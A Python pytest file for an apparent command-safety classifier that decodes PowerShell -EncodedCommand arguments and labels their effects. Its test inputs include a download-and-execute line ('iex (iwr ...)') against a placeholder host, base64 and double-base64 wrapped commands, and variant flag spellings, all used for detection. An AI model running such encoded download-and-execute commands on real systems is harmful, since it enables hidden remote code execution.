"""``-EncodedCommand``: decoded from base64 UTF-16LE, then classified."""

from __future__ import annotations

import base64

import pytest
from pwsh_helpers import argv, argv_effects

from statetrace_guard.classify.powershell import decode_encoded_command


def enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


class TestDecode:
    """Decoding is strict about base64 and UTF-16LE."""

    def test_round_trip(self):
        assert decode_encoded_command(enc("Get-ChildItem")) == "Get-ChildItem"

    def test_missing_padding_and_whitespace(self):
        value = enc("gci").rstrip("=")
        assert decode_encoded_command(value[:2] + " " + value[2:]) == "gci"

    @pytest.mark.parametrize("value", ["!!!", "QQ", "QUJD"])
    def test_invalid(self, value):
        assert decode_encoded_command(value) is None


class TestClassify:
    """What is inside the encoding decides."""

    @pytest.mark.parametrize(
        "flag",
        [
            "-EncodedCommand",
            "-encodedcommand",
            "-enc",
            "-e",
            "-ec",
            "-EncodedC",
            "/enc",
            "--enc",
        ],
    )
    def test_flag_spellings(self, flag):
        assert argv_effects("pwsh", flag, enc("iwr https://x.test")) == ["network"]

    @pytest.mark.parametrize(
        ("script", "expected"),
        [
            ("Get-ChildItem", ["read"]),
            ("Set-Content a.txt x", ["write"]),
            ("Install-Module Pester", ["install", "network"]),
            ("Start-Process calc", ["dynamic"]),
            ("iex (iwr https://x.test)", ["dynamic", "network"]),
        ],
    )
    def test_inner_effects(self, script, expected):
        assert argv_effects("powershell", "-nop", "-enc", enc(script)) == expected

    def test_double_encoding(self):
        inner = enc("pwsh -enc " + enc("iwr https://x.test"))
        assert argv_effects("pwsh", "-enc", inner) == ["network"]

    def test_utf8_base64_is_nonsense_and_dynamic(self):
        value = base64.b64encode(b"iwr https://x.test").decode()
        assert argv_effects("pwsh", "-enc", value) == ["dynamic"]

    @pytest.mark.parametrize("value", ["!!!", "QQ"])
    def test_decode_failure_is_dynamic(self, value):
        (command,) = argv("pwsh", "-enc", value)
        assert command.effects == frozenset({"dynamic"})
        assert "UTF-16LE" in command.reasons[0]

    def test_encoded_arguments_are_skipped(self):
        assert argv_effects("pwsh", "-ea", "QQ==", "-enc", enc("gci")) == ["read"]
